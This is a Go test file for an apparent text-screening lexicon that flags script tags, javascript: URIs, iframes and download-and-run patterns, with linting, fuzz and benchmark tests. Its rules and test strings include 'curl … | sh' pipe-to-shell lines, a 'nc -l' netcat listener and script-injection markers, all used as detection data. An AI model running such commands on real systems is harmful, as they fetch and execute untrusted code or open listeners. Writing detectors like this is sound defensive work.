package lexicon_test

import (
	"math/rand/v2"
	"os"
	"regexp/syntax"
	"slices"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/memproxy/memproxy/internal/expect"
	"github.com/memproxy/memproxy/internal/must"
	"github.com/memproxy/memproxy/internal/ring"
	"github.com/memproxy/memproxy/screen/lexicon"
)

func parse(t testing.TB, src string) *lexicon.Lexicon {
	t.Helper()
	return must.Get(lexicon.Parse("l.txt", src))(t)
}

const two = `# two rules
tag high 700 markup
  <script\b
  javascript:[a-z]
frame high 600 markup
  <iframe[\s/]+[a-z-]+=
pipe medium 400 exfiltration
  near 40
  \bcurl\b
  \|\s?sh\b
`

// Proves SYN-2
func TestFind(t *testing.T) {
	l := parse(t, two)
	for _, c := range []struct{ text, want string }{
		{"see <SCRIPT src=x>", "tag[<SCRIPT]"},
		{"the scripts of the play", ""},
		{"javascript:alert and <script>", "tag[javascript:a] tag[<script]"},
		{"curl http://x.example/a | sh", "pipe[curl http://x.example/a | sh]"},
		{"curl is a tool. " + strings.Repeat("and so on ", 8) + "| sh", ""},
		{"run | sh then curl", "pipe[| sh then curl]"},
		{strings.Repeat("x ", 3000) + "<script>", "tag[<script]"},
		{strings.Repeat("x", 1020) + " <script>", "tag[<script]"},
		{"<iframe" + strings.Repeat(" ", 5000) + "width=3>", "frame[<iframe" + strings.Repeat(" ", 5000) + "width=]"},
		{"<iframe" + strings.Repeat(" ", 900) + strings.Repeat("a-b", 900) + "=3", "frame[<iframe" + strings.Repeat(" ", 900) + strings.Repeat("a-b", 900) + "=]"},
		{"", ""},
	} {
		hits := l.Find(c.text)
		var got []string
		for _, h := range hits {
			got = append(got, l.Rules[h.Rule].ID+"["+c.text[h.Start:h.End]+"]")
		}
		expect.Equal(t, strings.Join(got, " "), c.want, c.text)
	}
}

// However often a rule holds, the hits of others are told, and its own cover
// the text.
func TestHitsAreBounded(t *testing.T) {
	l := parse(t, two)
	text := strings.Repeat("<script>"+strings.Repeat(" ", 200), 100) + "curl | sh"
	hits := l.Find(text)
	if len(hits) != maxHits+1 || hits[maxHits-1].End != len(text) || l.Rules[hits[maxHits].Rule].ID != "pipe" {
		t.Errorf("%d hits: %v", len(hits), hits)
	}
}

// Decoys of one part of a rule hide no place in which its parts are near.
func TestNearBehindDecoys(t *testing.T) {
	l := parse(t, two)
	decoys := strings.Repeat("curl ", 200)
	text := decoys + strings.Repeat("and so on ", 8) + "curl a | sh"
	hits := l.Find(text)
	if len(hits) != 1 || text[hits[0].Start:hits[0].End] != "curl a | sh" {
		t.Errorf("got %v", hits)
	}
}

// A lexicon without rules finds nothing, and "near" may have one pattern.
func TestFindWithoutOthers(t *testing.T) {
	expect.Len(t, parse(t, "").Find("curl a | sh"), 0)
	expect.Len(t, parse(t, "one high 1 f\n  near 40\n  curl\n").Find("curl a | sh"), 1)
}

// Patterns whose cost an attacker could choose are refused, and their nearest
// harmless relatives are not.
func TestLint(t *testing.T) {
	for _, p := range []string{
		`a.*b`, `a.{0,60}b`, `a[^x]*b`, `a[^<>]{0,9}b`, `(a.+)`, `(?s:a.?.*b)`, `\w{40}`, `[0-9a-f]{16,}`, `a{13}`, `(a+b)+`, `(a|b*)*`, `a*`, `x?`, `(^|a?)`, `a(b`, `[a-z]{3}`,
	} {
		expect.Error(t, expect.Err(lint(p)), p, "is accepted")
	}
	for _, p := range []string{`ax.b`, `ax\s*b`, `ax[a-z]{0,12}b`, `#\d+`, `(^|\n)system:`, `a+b+`, `<(a|b)\s`, `[a-z0-9._/-]+\?`} {
		must.Get(lint(p))(t)
	}
}

func TestMistakesNameTheirLine(t *testing.T) {
	for _, c := range []struct{ src, want string }{
		{"  abc", "l.txt:1: a pattern before"},
		{"a b", "l.txt:1: want"},
		{"a high 1001 f", "l.txt:1: the score"},
		{"a dire 1 f", "l.txt:1: unknown severity"},
		{"a high 1 f\n  near 4000\n  x", "l.txt:2: near wants"},
		{"a high 1 f\n  xyz\na high 1 f", "l.txt:3: rule a is defined twice"},
		{"a high 1 f\n\nb high 1 f\n  xyz", "l.txt:1: rule a has no pattern"},
		{"a high 1 f\n  x.*y", "l.txt:2: pattern"},
		{"a high 1 f\n  \\d+\\s", "l.txt:1: rule a: pattern"},
		{"a high 1 f\n  near 9\n  \\d+\\s\n  x", "l.txt:1: rule a: pattern"},
	} {
		expect.ErrorHas(t, expect.Err(lexicon.Parse("l.txt", c.src)), c.want, c.src)
	}
}

// everywhere is what Find returns, by each expression over the whole text.
func (l *lexicon.Lexicon) everywhere(text string) []lexicon.Hit {
	var hits []lexicon.Hit
	for ri := range l.Rules {
		r := &l.Rules[ri]
		hits = r.hits(hits, ri, text, func(i int) []span {
			var out []span
			for _, m := range r.parts[i].re.FindAllStringIndex(text, -1) {
				out = append(out, span{m[0], m[1]})
			}
			return out
		})
	}
	return sorted(hits)
}

func shipped(t testing.TB) *lexicon.Lexicon {
	src := must.Get(os.ReadFile("../pack/lexicon.txt"))(t)
	return parse(t, string(src))
}

// example appends a text that re matches, as chance wants it.
func example(dst []byte, re *syntax.Regexp, rng *rand.Rand) []byte {
	again := func(least, most int) {
		if rng.IntN(20) == 0 && least < most && most > maxRepeat { // without bound
			least, most = 100, 2000
		}
		for range least + rng.IntN(most-least+1) {
			dst = example(dst, re.Sub[0], rng)
		}
	}
	switch re.Op {
	case syntax.OpLiteral:
		for _, r := range re.Rune {
			for range rng.IntN(4) {
				r = unicode.SimpleFold(r)
			}
			dst = utf8.AppendRune(dst, r)
		}
	case syntax.OpCharClass:
		i := 2 * rng.IntN(len(re.Rune)/2)
		dst = utf8.AppendRune(dst, re.Rune[i]+rng.Int32N(min(50, re.Rune[i+1]-re.Rune[i]+1)))
	case syntax.OpAnyChar, syntax.OpAnyCharNotNL:
		dst = append(dst, '~')
	case syntax.OpCapture:
		return example(dst, re.Sub[0], rng)
	case syntax.OpStar:
		again(0, maxRepeat+1)
	case syntax.OpPlus:
		again(1, maxRepeat+1)
	case syntax.OpQuest:
		again(0, 1)
	case syntax.OpRepeat:
		again(re.Min, max(re.Min, re.Max))
	case syntax.OpAlternate:
		return example(dst, re.Sub[rng.IntN(len(re.Sub))], rng)
	case syntax.OpConcat:
		for _, sub := range re.Sub {
			dst = example(dst, sub, rng)
		}
	}
	return dst
}

// Each shipped pattern is found in texts made from it, between others and in
// prose, and nothing else is: as if each were tried over the whole text.
func TestFindsWhatEachExpressionFinds(t *testing.T) {
	ring.Long(t, "one text after another")
	l := shipped(t)
	rng := rand.New(rand.NewPCG(1, 2))
	between := []string{" ", "\n", "a", "", ". ", "\xff", "ſ", "日", strings.Repeat(" and so on", 60)}
	for n := range 8 / ring.Share(4, 4) * len(l.parts) {
		p := l.parts[n%len(l.parts)]
		tree := must.Get(syntax.Parse(p.re.String(), syntax.Perl))(t)
		text := []byte(between[rng.IntN(len(between))])
		for range 1 + rng.IntN(3) {
			text = append(example(text, tree, rng), between[rng.IntN(len(between))]...)
		}
		if got, want := l.Find(string(text)), l.everywhere(string(text)); !slices.Equal(got, want) {
			t.Errorf("%q: got %v, want %v", text, got, want)
		}
	}
}

func FuzzFindAgainstExpressions(f *testing.F) {
	l := shipped(f)
	for _, s := range []string{"<script>", "curl | sh", "javaſcript:a", strings.Repeat("<", 3000) + "script>", "\xff<script ", "<ſcript>", "\u212aernel: nc -l 1"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		if got, want := l.Find(text), l.everywhere(text); !slices.Equal(got, want) {
			t.Errorf("got %v, want %v", got, want)
		}
	})
}

func FuzzParse(f *testing.F) {
	for _, p := range []string{`ab|c{2,3}d`, `[^\x00-\x{10ffff}]ab`, `(a+|b)*cd`, `\d+\s*x{2,}yz`, `(?:)ab$`, `\pL+ab`, `ſ{12}[^k]`} {
		f.Add(p, "abk ſſ\n")
	}
	f.Fuzz(func(t *testing.T, pattern, text string) {
		if l, err := lexicon.Parse("l.txt", "a high 1 f\n  "+pattern); err == nil {
			if got, want := l.Find(text), l.everywhere(text); !slices.Equal(got, want) {
				t.Errorf("got %v, want %v", got, want)
			}
		}
	})
}

// What an attacker can make a text cost: every literal of every pattern, close
// to one another.
func BenchmarkFind(b *testing.B) {
	l := shipped(b)
	var all []string
	for _, p := range l.parts {
		all = append(all, p.anchor.literals...)
	}
	hostile := strings.Repeat(strings.Join(all, " "), 8)[:8<<10]
	equals := strings.Repeat("a=b ", 2<<10)
	prose := strings.Repeat("The user prefers short answers, and lives in Lisbon with a dog called Rex. Meetings were moved to Tuesday. ", 80)
	for _, c := range []struct{ name, text string }{{"prose/500", prose[:500]}, {"prose/8k", prose[:8<<10]}, {"literals/8k", hostile}, {"equals/8k", equals},
		{"runs/8k", strings.Repeat("<iframe nc a on click ", 400)[:8<<10]}, {"run/64k", "<iframe" + strings.Repeat(" nc a", 13000)}} {
		b.Run(c.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				l.Find(c.text)
			}
		})
	}
}
